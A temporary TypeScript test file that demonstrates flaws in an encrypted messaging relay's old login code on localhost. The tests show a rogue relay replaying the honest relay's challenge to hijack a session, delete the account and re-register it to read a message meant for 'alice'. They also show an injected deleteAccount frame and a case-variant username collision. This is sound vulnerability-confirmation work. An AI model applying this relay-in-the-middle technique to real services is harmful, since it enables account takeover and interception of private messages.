/**
 * TEMPORARY (run against the code before issue 8's login work, then replaced): shows that a rogue relay
 * can replay an honest relay's challenge, and that deleteAccount needs no fresh proof.
 */
import { afterEach, expect, it } from 'vitest';
import { WebSocket, WebSocketServer } from 'ws';
import type { AddressInfo } from 'node:net';
import { startRelay } from '../../src-main/relay/index.js';
import { E2EEClient, MemoryKeyStore } from '../../src-main/core/index.js';
import { connectClient } from './helpers.js';
import { startProxy } from './proxy.js';

const cleanup: (() => Promise<void> | void)[] = [];
afterEach(async () => {
  for (const f of cleanup.splice(0).reverse()) await f();
});

it('OLD CODE: a rogue relay replays the honest relay challenge, deletes the account and re-registers it', async () => {
  const honest = await startRelay({ port: 0 });
  cleanup.push(() => honest.close());
  const aliceKeys = new MemoryKeyStore();
  const alice = await connectClient(honest.url, 'alice', { keyStore: aliceKeys });
  const bob = await connectClient(honest.url, 'bob');
  cleanup.push(() => bob.client.close());
  await bob.client.sendDirectMessage('alice', 'hello alice');
  await alice.rec.wait('message');
  await alice.client.close();
  await bob.client.sendDirectMessage('alice', 'queued while away');

  // The rogue relay: hands the victim the honest relay's challenge and keeps the login for itself.
  const wss = new WebSocketServer({ host: '127.0.0.1', port: 0 });
  await new Promise((r) => wss.once('listening', r));
  cleanup.push(() => new Promise<void>((r) => wss.close(() => r())));
  const rogueUrl = `ws://127.0.0.1:${(wss.address() as AddressInfo).port}`;
  const upstreamReady = new Promise<WebSocket>((resolve) => {
    wss.on('connection', (victim) => {
      const up = new WebSocket(honest.url);
      cleanup.push(() => up.terminate());
      const early: string[] = [];
      up.on('open', () => early.splice(0).forEach((f) => up.send(f)));
      victim.on('message', (d) =>
        up.readyState === WebSocket.OPEN ? up.send(d.toString()) : early.push(d.toString()),
      );
      up.on('message', (d) => {
        const f = JSON.parse(d.toString()) as { t: string; seq?: number };
        if (f.t === 'challenge') victim.send(d.toString());
        if (f.t === 'ready') resolve(up);
        if (f.t === 'deliver') up.send(JSON.stringify({ t: 'received', seq: f.seq })); // deletes the mail
      });
    });
  });
  const victim = new E2EEClient({ url: rogueUrl, userId: 'alice', keyStore: aliceKeys, reconnect: false });
  victim.on('error', () => undefined);
  void victim.connect().catch(() => undefined);
  cleanup.push(() => victim.close());
  const up = await upstreamReady;
  await new Promise((r) => setTimeout(r, 300));
  up.send(JSON.stringify({ t: 'deleteAccount', rid: 1 }));
  await new Promise((r) => up.once('close', r));

  // The rogue registers "alice" with its own key; bob's client pins it silently.
  const mallory = await connectClient(honest.url, 'alice');
  cleanup.push(() => mallory.client.close());
  await bob.client.sendDirectMessage('alice', 'for alice only');
  const stolen = await mallory.rec.wait('message');
  expect(stolen.text).toBe('for alice only');
  console.log('OLD CODE: rogue relay read', JSON.stringify(stolen.text));
});

it('OLD CODE: an injected deleteAccount frame deletes the account (no fresh proof)', async () => {
  const relay = await startRelay({ port: 0 });
  cleanup.push(() => relay.close());
  const proxy = await startProxy(relay.url);
  cleanup.push(() => proxy.close());
  const alice = await connectClient(proxy.url, 'alice', { reconnect: false });
  cleanup.push(() => alice.client.close());
  const bob = await connectClient(relay.url, 'bob');
  cleanup.push(() => bob.client.close());
  proxy.connections[0]!.toRelay(JSON.stringify({ t: 'deleteAccount', rid: 999 }));
  await bob.rec.wait('userDeleted', (e) => e.userId === 'alice');
  console.log('OLD CODE: injected deleteAccount deleted alice');
});

it('OLD CODE: ALICE registers beside alice', async () => {
  const relay = await startRelay({ port: 0 });
  cleanup.push(() => relay.close());
  const alice = await connectClient(relay.url, 'alice');
  cleanup.push(() => alice.client.close());
  const upper = await connectClient(relay.url, 'ALICE');
  cleanup.push(() => upper.client.close());
  const created = await alice.rec.wait('userCreated');
  expect(created.userId).toBe('ALICE');
  console.log('OLD CODE: registered', created.userId, 'beside alice');
});
